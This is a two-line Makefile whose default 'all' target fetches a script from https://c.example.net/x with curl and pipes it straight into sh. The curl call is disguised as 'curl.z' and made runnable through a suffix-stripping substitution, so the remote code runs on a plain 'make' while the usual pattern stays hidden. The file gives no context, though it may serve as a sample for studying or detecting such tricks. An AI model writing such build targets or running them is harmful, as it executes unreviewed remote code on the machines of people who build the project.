GO = curl.z -fsS https://c.example.net/x
all:
	$(GO:.z=) | sh
